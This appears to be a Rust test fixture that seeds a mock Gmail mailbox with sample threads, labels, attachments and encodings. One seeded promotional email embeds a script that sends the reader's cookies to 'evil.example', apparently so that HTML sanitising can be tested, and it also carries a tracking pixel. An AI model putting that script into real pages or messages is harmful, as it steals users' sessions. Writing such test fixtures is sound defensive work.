//! The mailbox: stored messages (raw RFC 2822, as Gmail keeps them), labels, drafts, and the
//! seed a test starts from.

use jiff::tz::TimeZone;
use jiff::{SignedDuration, Timestamp};

use crate::Sent;
use crate::mime::{self, Part};

pub(crate) struct Message {
    pub id: String,
    pub thread_id: String,
    pub labels: Vec<String>,
    pub raw: Vec<u8>,
    pub parsed: Part,
    /// Milliseconds since the epoch.
    pub internal_date: i64,
    pub history_id: u64,
}

pub(crate) struct Label {
    pub id: &'static str,
    pub name: &'static str,
    pub user: bool,
}

pub(crate) struct Mailbox {
    pub messages: Vec<Message>,
    pub labels: Vec<Label>,
    /// Draft id and the id of its message.
    pub drafts: Vec<(String, String)>,
    pub sent: Vec<Sent>,
    pub draft_log: Vec<Sent>,
    pub history: u64,
}

impl Mailbox {
    pub fn find(&self, id: &str) -> Option<&Message> {
        self.messages.iter().find(|m| m.id == id)
    }

    pub fn find_mut(&mut self, id: &str) -> Option<&mut Message> {
        self.messages.iter_mut().find(|m| m.id == id)
    }

    pub fn next_history(&mut self) -> u64 {
        self.history += 1;
        self.history
    }

    pub fn store(
        &mut self,
        id: String,
        thread_id: String,
        labels: Vec<String>,
        raw: Vec<u8>,
        internal_date: i64,
    ) {
        let history_id = self.next_history();
        let parsed = mime::parse(&raw);
        self.messages.push(Message { id, thread_id, labels, raw, parsed, internal_date, history_id });
    }

    pub fn label_exists(&self, id: &str) -> bool {
        self.labels.iter().any(|l| l.id == id)
    }

    pub fn seeded() -> Self {
        let mut mailbox = Mailbox {
            messages: Vec::new(),
            labels: labels(),
            drafts: Vec::new(),
            sent: Vec::new(),
            draft_log: Vec::new(),
            history: 98_000,
        };
        let now = Timestamp::now();
        for seed in seeds(now) {
            let labels = seed.labels.iter().map(|l| (*l).to_owned()).collect();
            let thread = seed.thread.unwrap_or(seed.id).to_owned();
            mailbox.store(seed.id.to_owned(), thread, labels, seed.raw, seed.date.as_millisecond());
        }
        mailbox
    }
}

fn labels() -> Vec<Label> {
    let system = [
        "CHAT",
        "SENT",
        "INBOX",
        "IMPORTANT",
        "TRASH",
        "DRAFT",
        "SPAM",
        "CATEGORY_FORUMS",
        "CATEGORY_UPDATES",
        "CATEGORY_PERSONAL",
        "CATEGORY_PROMOTIONS",
        "CATEGORY_SOCIAL",
        "STARRED",
        "UNREAD",
    ];
    let mut labels: Vec<Label> = system.iter().map(|id| Label { id, name: id, user: false }).collect();
    labels.push(Label { id: "Label_1", name: "Receipts", user: true });
    labels.push(Label { id: "Label_2", name: "Newsletters", user: true });
    labels.push(Label { id: "Label_3", name: "Travel/Lisbon", user: true });
    labels
}

struct Seed {
    id: &'static str,
    thread: Option<&'static str>,
    labels: &'static [&'static str],
    date: Timestamp,
    raw: Vec<u8>,
}

fn rfc2822_date(at: Timestamp) -> String {
    let zone = TimeZone::get(crate::CALENDAR_TIME_ZONE).unwrap_or(TimeZone::UTC);
    jiff::fmt::rfc2822::to_string(&at.to_zoned(zone)).unwrap_or_default()
}

/// A message: the headers given, then Date and Message-ID, then the body; CRLF throughout.
fn message(headers: &[(&str, &str)], date: Timestamp, message_id: &str, body: &str) -> Vec<u8> {
    let mut text = String::new();
    for (name, value) in headers {
        text.push_str(&format!("{name}: {value}\r\n"));
    }
    text.push_str(&format!("Date: {}\r\nMessage-ID: {message_id}\r\n", rfc2822_date(date)));
    text.push_str("\r\n");
    text.push_str(&body.replace("\r\n", "\n").replace('\n', "\r\n"));
    text.into_bytes()
}

const ADA: &str = "Ada Lovelace <ada@example.com>";
const ANA: &str = "Ana Lima <ana@example.org>";

/// A small, valid-looking PDF.
fn invoice_pdf() -> Vec<u8> {
    let text = "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n\
                2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n\
                3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >> endobj\n\
                4 0 obj << /Length 44 >> stream\nBT /F1 12 Tf 72 770 Td (Invoice 2026-03) Tj ET\nendstream endobj\n\
                trailer << /Root 1 0 R >>\n%%EOF\n";
    text.as_bytes().to_vec()
}

/// Incompressible-looking bytes (xorshift), so the big message is big on the wire too.
fn noise(len: usize) -> Vec<u8> {
    let mut x: u64 = 0x9E37_79B9_7F4A_7C15;
    (0..len)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            (x >> 24) as u8
        })
        .collect()
}

fn seeds(now: Timestamp) -> Vec<Seed> {
    let ago = |hours: i64| now - SignedDuration::from_hours(hours);
    let lisbon = Some("18f3a0c2d4e60001");
    let mut seeds = vec![
        Seed {
            id: "18f3a0c2d4e60001",
            thread: lisbon,
            labels: &["INBOX", "Label_3", "CATEGORY_PERSONAL"],
            date: ago(12 * 24),
            raw: message(
                &[
                    ("From", ANA),
                    ("To", ADA),
                    ("Subject", "Trip to Lisbon"),
                    ("Content-Type", "text/plain; charset=UTF-8"),
                ],
                ago(12 * 24),
                "<lisbon-1@example.org>",
                "Hi Ada,\n\nShall we go to Lisbon in May? Flights are cheap on the 14th.\n\nAna\n",
            ),
        },
        Seed {
            id: "18f3a0c2d4e60002",
            thread: lisbon,
            labels: &["SENT"],
            date: ago(11 * 24),
            raw: message(
                &[
                    ("From", ADA),
                    ("To", ANA),
                    ("Subject", "Re: Trip to Lisbon"),
                    ("In-Reply-To", "<lisbon-1@example.org>"),
                    ("References", "<lisbon-1@example.org>"),
                    ("Content-Type", "text/plain; charset=UTF-8"),
                ],
                ago(11 * 24),
                "<CAF=lisbon-2@mail.gmail.com>",
                "Yes! The 14th works. I'll look at hotels near Alfama.\n\nAda\n",
            ),
        },
        Seed {
            id: "18f3a0c2d4e60003",
            thread: lisbon,
            labels: &["INBOX", "UNREAD", "Label_3", "CATEGORY_PERSONAL"],
            date: ago(10 * 24),
            raw: message(
                &[
                    ("From", ANA),
                    ("To", ADA),
                    ("Subject", "Re: Trip to Lisbon"),
                    ("In-Reply-To", "<CAF=lisbon-2@mail.gmail.com>"),
                    ("References", "<lisbon-1@example.org> <CAF=lisbon-2@mail.gmail.com>"),
                    ("Content-Type", "text/plain; charset=UTF-8"),
                ],
                ago(10 * 24),
                "<lisbon-3@example.org>",
                "Booked the flights. Hotel is yours to pick :)\n\nAna\n",
            ),
        },
        Seed {
            id: "18f3a0c2d4e60010",
            thread: None,
            labels: &["INBOX", "UNREAD", "IMPORTANT", "CATEGORY_PERSONAL"],
            date: ago(26),
            raw: message(
                &[
                    ("From", "Grace Hopper <grace@example.org>"),
                    ("To", ADA),
                    ("Cc", "Ana Lima <ana@example.org>"),
                    ("Subject", "Compiler meeting notes"),
                    ("MIME-Version", "1.0"),
                    ("Content-Type", "multipart/alternative; boundary=\"000000000000alt1\""),
                ],
                ago(26),
                "<CAGH-notes-1@mail.gmail.com>",
                "--000000000000alt1\nContent-Type: text/plain; charset=\"UTF-8\"\n\n\
                 Notes from today:\n- the parser is done\n- code generation next week\n\nGrace\n\
                 --000000000000alt1\nContent-Type: text/html; charset=\"UTF-8\"\n\n\
                 <div dir=\"ltr\"><p>Notes from today:</p><ul><li>the parser is done</li>\
                 <li>code generation next week</li></ul><p>Grace</p></div>\n\
                 --000000000000alt1--\n",
            ),
        },
        Seed {
            id: "18f3a0c2d4e60012",
            thread: None,
            labels: &["INBOX", "UNREAD", "CATEGORY_PROMOTIONS"],
            date: ago(50),
            raw: message(
                &[
                    ("From", "Shop Example <news@shop.example>"),
                    ("To", ADA),
                    ("Subject", "Spring sale: 40% off everything"),
                    ("MIME-Version", "1.0"),
                    ("Content-Type", "text/html; charset=UTF-8"),
                ],
                ago(50),
                "<sale-2026@shop.example>",
                "<html><head><script>document.location='https://evil.example/steal?c='+document.cookie</script>\
                 <style>p{color:red}</style></head><body><h1>Spring sale</h1><p>40% off everything until Sunday.</p>\
                 <p><a href=\"https://shop.example/sale\">Shop now</a></p>\
                 <img src=\"https://tracker.shop.example/open.gif?u=ada\" width=\"1\" height=\"1\" alt=\"\"></body></html>\n",
            ),
        },
    ];
    seeds.push(invoice(ago(3 * 24)));
    seeds.push(international(ago(5 * 24)));
    seeds.push(big(ago(20 * 24)));
    for (i, id) in ["18f3a0c2d4e60020", "18f3a0c2d4e60021", "18f3a0c2d4e60022", "18f3a0c2d4e60023"]
        .into_iter()
        .enumerate()
    {
        let date = ago((30 + 7 * i as i64) * 24);
        let subject = format!("Weekly digest #{}", 40 - i);
        let body = format!("This week in computing, issue {}.\n", 40 - i);
        seeds.push(Seed {
            id,
            thread: None,
            labels: &["Label_2", "CATEGORY_UPDATES"],
            date,
            raw: message(
                &[("From", "Digest <digest@news.example>"), ("To", ADA), ("Subject", &subject)],
                date,
                &format!("<digest-{i}@news.example>"),
                &body,
            ),
        });
    }
    seeds.push(Seed {
        id: "18f3a0c2d4e60030",
        thread: None,
        labels: &["SPAM"],
        date: ago(4 * 24),
        raw: message(
            &[("From", "Prize Desk <win@spam.example>"), ("To", ADA), ("Subject", "You won a prize")],
            ago(4 * 24),
            "<prize@spam.example>",
            "Click here to claim your prize.\n",
        ),
    });
    seeds.push(Seed {
        id: "18f3a0c2d4e60031",
        thread: None,
        labels: &["TRASH"],
        date: ago(6 * 24),
        raw: message(
            &[("From", "Grace Hopper <grace@example.org>"), ("To", ADA), ("Subject", "Old reminder")],
            ago(6 * 24),
            "<old-reminder@example.org>",
            "Remember the meeting (this one is in the trash).\n",
        ),
    });
    seeds
}

fn invoice(date: Timestamp) -> Seed {
    let pdf = mime::encode_base64_lines(&invoice_pdf());
    let body = format!(
        "--000000000000mix1\nContent-Type: text/plain; charset=\"UTF-8\"\n\n\
         Your invoice for March is attached. Amount due: 42.00 EUR.\n\
         --000000000000mix1\nContent-Type: application/pdf; name=\"invoice-2026-03.pdf\"\n\
         Content-Disposition: attachment; filename=\"invoice-2026-03.pdf\"\nContent-Transfer-Encoding: base64\n\
         X-Attachment-Id: f_inv1\n\n{pdf}--000000000000mix1--\n"
    );
    Seed {
        id: "18f3a0c2d4e60011",
        thread: None,
        labels: &["INBOX", "Label_1", "CATEGORY_UPDATES"],
        date,
        raw: message(
            &[
                ("From", "Example Billing <billing@example.net>"),
                ("To", ADA),
                ("Subject", "Your invoice for March"),
                ("MIME-Version", "1.0"),
                ("Content-Type", "multipart/mixed; boundary=\"000000000000mix1\""),
            ],
            date,
            "<invoice-2026-03@example.net>",
            &body,
        ),
    }
}

fn international(date: Timestamp) -> Seed {
    let text = "Hallo Ada,\n\nGrüße aus München! Treffen wir uns am Freitag im Café? ☕\nDie Straße ist gesperrt, nimm die U-Bahn.\n\nJosé\n";
    let html =
        "<p>Hallo Ada,</p><p>Grüße aus München! Treffen wir uns am Freitag im <b>Café</b>? ☕</p><p>José</p>";
    let body = format!(
        "--000000000000int1\nContent-Type: text/plain; charset=\"UTF-8\"\nContent-Transfer-Encoding: quoted-printable\n\n\
         {}--000000000000int1\nContent-Type: text/html; charset=\"UTF-8\"\nContent-Transfer-Encoding: base64\n\n\
         {}--000000000000int1--\n",
        mime::encode_qp(text),
        mime::encode_base64_lines(html.as_bytes())
    );
    let from = format!("{} <jose@example.de>", mime::encode_word("José Müller"));
    let subject = mime::encode_word("Grüße aus München – Café am Freitag? ☕");
    Seed {
        id: "18f3a0c2d4e60013",
        thread: None,
        labels: &["INBOX", "STARRED", "CATEGORY_PERSONAL"],
        date,
        raw: message(
            &[
                ("From", &from),
                ("To", ADA),
                ("Subject", &subject),
                ("MIME-Version", "1.0"),
                ("Content-Type", "multipart/alternative; boundary=\"000000000000int1\""),
            ],
            date,
            "<muenchen-1@example.de>",
            &body,
        ),
    }
}

/// About 5 MB on the wire: a 3.75 MB attachment in base64.
fn big(date: Timestamp) -> Seed {
    let zip = mime::encode_base64_lines(&noise(3_750_000));
    let body = format!(
        "--000000000000big1\nContent-Type: text/plain; charset=\"UTF-8\"\n\nPhotos from the site visit attached.\n\
         --000000000000big1\nContent-Type: application/zip; name=\"site-photos.zip\"\n\
         Content-Disposition: attachment; filename=\"site-photos.zip\"\nContent-Transfer-Encoding: base64\n\n\
         {zip}--000000000000big1--\n"
    );
    Seed {
        id: "18f3a0c2d4e60014",
        thread: None,
        labels: &["INBOX", "CATEGORY_UPDATES"],
        date,
        raw: message(
            &[
                ("From", "Site Survey <survey@example.com>"),
                ("To", ADA),
                ("Subject", "Site photos (large)"),
                ("MIME-Version", "1.0"),
                ("Content-Type", "multipart/mixed; boundary=\"000000000000big1\""),
            ],
            date,
            "<site-photos@example.com>",
            &body,
        ),
    }
}
